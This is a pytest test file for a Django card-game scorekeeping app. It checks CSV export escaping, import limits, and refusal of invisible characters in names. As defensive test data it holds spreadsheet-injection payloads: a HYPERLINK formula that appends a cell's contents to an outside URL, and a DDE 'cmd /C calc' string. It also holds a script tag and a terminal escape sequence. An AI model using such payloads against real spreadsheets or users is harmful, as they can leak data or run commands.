"""What a scorekeeper or a table file can put in, and what comes back out: events before the first
hand, the spreadsheet export's text cells, the import's size and date limits, and the characters a
name may hold."""

import copy
import csv
import io
import json
import sys

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from games.models import Group, HandChange, Table
from games.services import recording, table_file
from games.twentyfour.models import Puzzle
from games.views.table_file import spreadsheet_text
from scoring import InputError
from tests.fixtures import (
    SAMPLES,
    assert_import_refused,
    assert_new_table_refused,
    csrf_post,
    page,
    players_form,
    players_of,
    seeded,
    table_form,
)
from tests.inputs import document, marriage_inputs

FOUR = ["Asha", "Bikash", "Chandra", "Dipa"]


def upload(client, table_file):
    data = table_file if isinstance(table_file, bytes) else json.dumps(table_file).encode()
    return csrf_post(
        client,
        reverse("import_file"),
        {"file": SimpleUploadedFile("table.json", data, content_type="application/json")},
    )


def pages_of(client, table):
    """Every page of the table answers (no 500 anywhere its events are shown)."""
    for name in ("table", "seats", "history", "export", "export_csv"):
        assert client.get(reverse(name, args=[table.keeper_token])).status_code == 200, name


# --- events before the first hand -------------------------------------------------------------

BEFORE_THE_FIRST_HAND = [
    {"kind": "join", "player": "Eka", "seat": "2", "score": "0"},
    {"kind": "leave", "player": "Dipa"},
    {"kind": "dealer", "player": "Bikash"},
    {"kind": "adjust", "reason": "pizza", "points-0": "-3", "points-1": "1", "points-2": "1", "points-3": "1"},
]


@pytest.mark.parametrize("data", BEFORE_THE_FIRST_HAND, ids=lambda data: data["kind"])
def test_an_event_before_the_first_hand_is_taken_and_kept_in_the_history(client, owner, data):
    table = seeded(owner, "marriage", [], players=FOUR)
    response = csrf_post(client, reverse("seats", args=[table.keeper_token]), data)
    assert response.status_code == 302
    table.refresh_from_db()
    assert [event["after"] for event in table.events] == [0]
    assert list(table.changes.values_list("action", "number")) == [(HandChange.EVENT, 0)]
    pages_of(client, table)
    response = csrf_post(client, reverse("take_back_event", args=[table.keeper_token, 0]))
    assert response.status_code == 302
    assert Table.objects.get(pk=table.pk).events == []


def test_a_file_with_events_before_the_first_hand_imports(client):
    events = [
        {"after": 0, "kind": "join", "player": "Eka", "seat": 1},
        {"after": 0, "kind": "leave", "player": "Dipa"},
        {"after": 0, "kind": "dealer", "player": "Bikash"},
        {"after": 0, "kind": "adjust", "points": {"Asha": 1, "Eka": -1, "Bikash": 0, "Chandra": 0}, "reason": "pizza"},
    ]
    assert upload(client, document("marriage", FOUR, [], events=events)).status_code == 302
    table = Table.objects.get()
    assert table.events == [{**events[0], "score": 0}, *events[1:]]
    pages_of(client, table)


# --- the spreadsheet export -------------------------------------------------------------------

LINK = '=HYPERLINK("http://x.io/"&A1,"Asha")'
TRICKY = [LINK, "+Bikash", "@Chandra", "-Dipa"]


def test_the_spreadsheet_writes_text_that_looks_like_a_formula_as_text_and_numbers_as_numbers(client, owner):
    hand = {name: {"status": "winner" if name == LINK else "seen", "maal": 5} for name in TRICKY}
    events = [
        {
            "after": 1,
            "kind": "adjust",
            "reason": "=1+1 pizza",
            "points": {LINK: -20, "+Bikash": 5, "@Chandra": 5, "-Dipa": 10},
        },
        {"after": 1, "kind": "join", "player": "=Eka", "seat": 4},
    ]
    table = seeded(owner, "marriage", [hand], players=TRICKY, events=events)
    recording.set_note(table, 1, "@SUM(1+1)*cmd|' /C calc'!A0")
    rows = list(csv.reader(io.StringIO(client.get(reverse("export_csv", args=[table.keeper_token])).content.decode())))
    header, first, adjusted, joined, totals = rows
    assert header == ["Hand", *(f"'{name}" for name in TRICKY), "'=Eka", "Note"]
    assert first[-1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert adjusted[1:6] == ["-20", "5", "5", "10", ""] and adjusted[-1].startswith("'=1+1 pizza: ")
    assert joined[-1].startswith("'=Eka sat down")
    assert totals[0] == "Total" and all(cell.lstrip("-").isdigit() for cell in totals[1:])
    assert any(cell.startswith("-") for cell in totals[1:])  # a negative total, still a number


def test_a_cell_starting_with_a_tab_or_a_carriage_return_is_text_too():
    # No name or note can start so (their ends are trimmed), but the cell is neutralised whatever it holds.
    assert [spreadsheet_text(cell) for cell in ("\t=1+1", "\r@x", "Asha", "", -20, 0)] == [
        "'\t=1+1",
        "'\r@x",
        "Asha",
        "",
        -20,
        0,
    ]


# --- the import: its size, its dates ----------------------------------------------------------


def test_a_table_file_over_the_limit_is_refused_beside_the_field_before_it_is_read(client, monkeypatch):
    def no_reading(*args, **kwargs):
        raise AssertionError("the file was read")

    big = json.dumps(document("marriage", FOUR, [], name="x" * table_file.MAX_FILE_BYTES)).encode()
    monkeypatch.setattr(json, "load", no_reading)
    response = upload(client, big)
    assert response.status_code == 413
    assert 'id="id_file-error">This file is too big: a table file can be at most 2 MB.' in page(response)
    assert Table.objects.count() == 0


def test_a_table_file_at_the_limit_is_read(client):
    sent = json.dumps(document("marriage", FOUR, [])).encode()
    response = upload(client, sent + b" " * (table_file.MAX_FILE_BYTES - len(sent)))
    assert response.status_code == 302 and Table.objects.count() == 1


def import_command(path):
    """manage.py import_table `path`: (its standard error, its exit status)."""
    err = io.StringIO()
    with pytest.raises(SystemExit) as exit:
        call_command("import_table", str(path), stdout=io.StringIO(), stderr=err)
    return err.getvalue(), exit.value.code


@pytest.mark.django_db
def test_import_table_refuses_a_file_over_the_limit_in_one_line(tmp_path):
    big = tmp_path / "big.json"
    big.write_text(json.dumps(document("marriage", FOUR, [], name="x" * table_file.MAX_FILE_BYTES)))
    assert import_command(big) == (f"{big} is too big: a table file can be at most 2 MB\n", 1)
    assert Table.objects.count() == 0


@pytest.mark.django_db
def test_import_table_reads_standard_input_up_to_the_limit(monkeypatch):
    small = json.dumps(document("marriage", ["श्\u200dयाम", "محمد"], [])).encode()
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(small)))
    out = io.StringIO()
    call_command("import_table", "-", stdout=out, stderr=io.StringIO())
    assert Table.objects.get(pk=out.getvalue().splitlines()[0]).players == ["श्\u200dयाम", "محمد"]
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(small + b" " * table_file.MAX_FILE_BYTES)))
    assert import_command("-") == ("- is too big: a table file can be at most 2 MB\n", 1)
    assert Table.objects.count() == 1


@pytest.mark.parametrize(
    "created",
    [
        "99999-01-01T00:00:00Z",
        "0000-01-01",
        "0001-01-01T00:00:00+05:00",
        "9999-12-31T23:59:59-05:00",
        "0001-01-01",
        "1899-12-31T23:59:59Z",
        "3000-01-01T00:00:00Z",
    ],
)
def test_a_creation_date_out_of_range_is_refused(client, tmp_path, created):
    table_file = document("marriage", FOUR, [], created=created)
    response = upload(client, table_file)
    assert response.status_code == 422 and Table.objects.count() == 0
    assert "created: must be a" in page(response)
    path = tmp_path / "friday.json"
    path.write_text(json.dumps(table_file))
    error, status = import_command(path)
    assert status == 1 and error.startswith("invalid table file: created: must be a")


@pytest.mark.parametrize("created", ["1900-01-01T00:00:00Z", "2999-12-31T23:59:59Z"])
def test_a_creation_date_at_either_end_of_the_range_goes_round_the_pages_and_back(client, created):
    assert upload(client, document("marriage", FOUR, [], created=created)).status_code == 302
    table = Table.objects.get()
    pages_of(client, table)
    assert table_file.export_table(table)["created"] == created


# --- the characters of a name -------------------------------------------------------------------

# Each would make a name look like another, turn its line around, or cut it.
INVISIBLE = {
    "right-to-left override": "\u202e",
    "zero-width space": "\u200b",
    "left-to-right isolate": "\u2066",
    "pop directional isolate": "\u2069",
    "left-to-right mark": "\u200e",
    "right-to-left mark": "\u200f",
    "byte order mark": "\ufeff",
    "soft hyphen": "\u00ad",
    "escape": "\x1b",
    "newline": "\n",
    "line separator": "\u2028",
}
REFUSED = "a name cannot contain control or invisible characters"
# Real names: Devanagari spells श्‍याम with a zero-width joiner (U+200D), which a name keeps.
NEPALI_AND_ARABIC = ["हरि", "श्\u200dयाम", "محمد", "Asha"]


def marked(character):
    return f"Ha{character}ri"


@pytest.mark.parametrize("character", INVISIBLE.values(), ids=INVISIBLE.keys())
def test_the_new_table_form_refuses_a_player_name_with_an_invisible_character(client, character):
    assert_new_table_refused(client, "marriage", table_form("marriage", ["Hari", marked(character), "Asha"]), REFUSED)


@pytest.mark.parametrize("character", INVISIBLE.values(), ids=INVISIBLE.keys())
def test_the_new_table_form_says_beside_the_table_name_that_it_has_an_invisible_character(client, character):
    data = table_form("marriage", name=f"Friday{character} night")
    response = csrf_post(client, reverse("new_table", args=["marriage"]), data)
    assert response.status_code == 422
    assert f'<div class="error">{REFUSED.capitalize()}</div>' in page(response)
    assert Table.objects.count() == 0


def test_nepali_and_arabic_names_make_a_table_that_goes_out_and_back_in_unchanged(client, owner):
    data = table_form("marriage", NEPALI_AND_ARABIC, name="शुक्रबार · الجمعة")
    assert csrf_post(client, reverse("new_table", args=["marriage"]), data).status_code == 302
    table = Table.objects.get()
    assert table.players == NEPALI_AND_ARABIC and table.name == "शुक्रबार · الجمعة"
    winner = {"status": "winner", "maal": 3}
    recording.record_hand(
        table, {name: winner if name == "हरि" else {"status": "seen", "maal": 1} for name in NEPALI_AND_ARABIC}, 1
    )
    recording.set_note(table, 1, "श्\u200dयाम dealt\nمحمد shuffled")
    exported = client.get(reverse("export", args=[table.keeper_token])).content
    assert upload(client, exported).status_code == 302
    copy = Table.objects.exclude(pk=table.pk).get()
    assert "श्\u200dयाम" in exported.decode()  # the joiner kept, as written
    assert table_file.export_table(copy) == json.loads(exported)


@pytest.mark.parametrize("character", INVISIBLE.values(), ids=INVISIBLE.keys())
def test_the_seats_page_refuses_a_newcomer_with_an_invisible_character(client, owner, character):
    table = seeded(owner, "marriage", [], players=FOUR)
    data = {"kind": "join", "player": marked(character), "seat": "1", "score": "0"}
    response = csrf_post(client, reverse("seats", args=[table.keeper_token]), data)
    assert response.status_code == 422
    assert f'id="join-error" role="alert">{REFUSED.capitalize()}' in page(response)
    assert Table.objects.get(pk=table.pk).events == [] and not HandChange.objects.exists()


def test_the_seats_page_refuses_a_replacement_with_an_invisible_character(client, owner):
    table = seeded(owner, "thirteen", [])
    seated = table.players[0]
    data = {"kind": "replace", "player": seated, "by": marked("\u202e"), "score": "0"}
    response = csrf_post(client, reverse("seats", args=[table.keeper_token]), data)
    assert response.status_code == 422
    assert f'id="replace-error" role="alert">{REFUSED.capitalize()}' in page(response)
    assert Table.objects.get(pk=table.pk).events == []


def test_renaming_a_player_to_a_name_with_an_invisible_character_is_refused(client, owner):
    table = seeded(owner, "marriage", [], players=FOUR)
    names = ["Asha", marked("\u200b"), "Chandra", "Dipa"]
    response = csrf_post(client, reverse("players", args=[table.keeper_token]), players_form("marriage", names))
    assert response.status_code == 422 and REFUSED.capitalize() in page(response)
    assert Table.objects.get(pk=table.pk).players == FOUR


def test_a_group_name_with_an_invisible_character_is_refused_beside_its_field(client, owner):
    table = seeded(owner, "marriage", [], players=FOUR)
    response = csrf_post(client, reverse("table_group", args=[table.keeper_token]), {"new_group": "Friday\u202e club"})
    assert response.status_code == 422
    assert f'id="new-group-error" role="alert">{REFUSED.capitalize()}' in page(response)
    assert not Group.objects.exists() and Table.objects.get(pk=table.pk).group is None


@pytest.mark.parametrize(
    "change",
    [
        lambda table_file: table_file.update(players=["Asha", marked("\u202e"), "Chandra", "Dipa"]),
        lambda table_file: table_file.update(name="Friday\x1b[2J night"),
        lambda table_file: table_file.update(
            events=[{"after": 0, "kind": "join", "player": marked("\u2066"), "seat": 1}]
        ),
    ],
    ids=["player", "table name", "newcomer"],
)
def test_a_table_file_cannot_carry_an_invisible_character_into_a_name(client, change):
    table_file = document("marriage", FOUR, [])
    change(table_file)
    response = upload(client, table_file)
    assert response.status_code == 422 and REFUSED in page(response)
    assert Table.objects.count() == 0


def test_a_table_file_cannot_carry_an_invisible_character_into_a_replacement(client):
    players = players_of("thirteen")
    event = {"after": 0, "kind": "replace", "player": players[0], "by": marked("\u200f")}
    response = upload(client, document("thirteen", players, [], events=[event]))
    assert response.status_code == 422 and REFUSED in page(response)
    assert Table.objects.count() == 0


def test_a_note_may_have_lines_but_no_other_control_character(owner):
    table = seeded(owner, "marriage", [marriage_inputs("Wsss", [3, 1, 1, 1])], players=FOUR)
    assert recording.set_note(table, 1, "misdeal\nreplayed").note == "misdeal\nreplayed"
    with pytest.raises(InputError, match="cannot contain control or invisible characters"):
        recording.set_note(table, 1, "misdeal\x07")
    assert table.hands.get().note == "misdeal\nreplayed"


@pytest.mark.parametrize(
    "character", [c for c in INVISIBLE.values() if c != "\n"], ids=[k for k in INVISIBLE if k != "newline"]
)
def test_a_note_cannot_hold_an_invisible_or_direction_reversing_character(client, owner, character):
    table = seeded(owner, "marriage", [marriage_inputs("Wsss", [3, 1, 1, 1])], players=FOUR)
    response = csrf_post(client, reverse("hand_note", args=[table.keeper_token, 1]), {"note": f"paid {character}05"})
    assert response.status_code == 422 and "Cannot contain control or invisible characters" in page(response)
    assert table.hands.get().note == ""


def test_the_puzzle_refuses_a_player_name_with_an_invisible_character(client):
    response = csrf_post(client, reverse("puzzle_name"), {"name": marked("\u202e")})
    assert response.status_code == 422 and REFUSED.capitalize() in page(response)
    assert "player24" not in response.cookies


@pytest.mark.parametrize(
    ("points", "message"),
    [
        ("1E+999999999", "must be at most"),
        ("-1E+999999999", "must be at least"),
        ("1E-999999999", "may have at most one decimal"),
    ],
)
def test_points_with_an_exponent_past_any_number_are_refused_on_import(client, points, message):
    """Call Break counts tenths exactly (Decimal): a number such as 1E+999999999 is read, and refused."""
    document = copy.deepcopy(SAMPLES["callbreak"]["document"])
    players = document["players"]
    document["events"] = [{"after": 1, "kind": "adjust", "points": {players[0]: 0.5}, "reason": "x"}]
    text = json.dumps(document).replace("0.5", points)
    upload = SimpleUploadedFile("bad.json", text.encode(), content_type="application/json")
    response = csrf_post(client, reverse("import_file"), {"file": upload})
    assert response.status_code == 422 and message in page(response)
    assert Table.objects.count() == 0


def test_the_puzzles_name_set_by_hand_in_its_cookie_is_held_to_what_the_form_takes(client):
    client.logout()
    client.cookies["device24"] = "a-device"
    client.cookies["player24"] = "%E2%80%AEevil%E2%80%8B"
    response = csrf_post(client, reverse("puzzle_deal"))
    assert response.status_code == 302 and response["Location"] == reverse("puzzle_home")
    assert not Puzzle.objects.exists()


@pytest.mark.parametrize("color", ["<script>x</script>", "red extra-class", "purple"])
def test_a_table_file_takes_only_the_games_own_colours(client, color):
    document = copy.deepcopy(SAMPLES["callbreak"]["document"])
    document["colors"] = {document["players"][0]: color}
    assert_import_refused(client, document, "is not one of this game's colours")
